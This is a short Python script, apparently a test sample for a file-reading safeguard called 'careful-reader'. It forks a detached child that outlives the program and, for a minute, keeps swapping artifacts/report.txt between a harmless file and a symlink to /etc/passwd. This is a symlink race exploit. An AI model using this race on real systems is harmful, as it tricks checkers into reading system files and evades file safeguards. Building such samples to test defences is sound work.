# stopped by: careful-reader
# A child that outlives the program swaps the file for a link, again and again, until its folder is gone.
import os, time
os.mkdir('artifacts')
open('artifacts/report.txt', 'w').write('harmless')
if os.fork() == 0:
    os.setsid()
    end = time.time() + 60
    while time.time() < end:
        os.symlink('/etc/passwd', 'artifacts/link')
        os.rename('artifacts/link', 'artifacts/report.txt')
        open('artifacts/file', 'w').write('harmless')
        os.rename('artifacts/file', 'artifacts/report.txt')
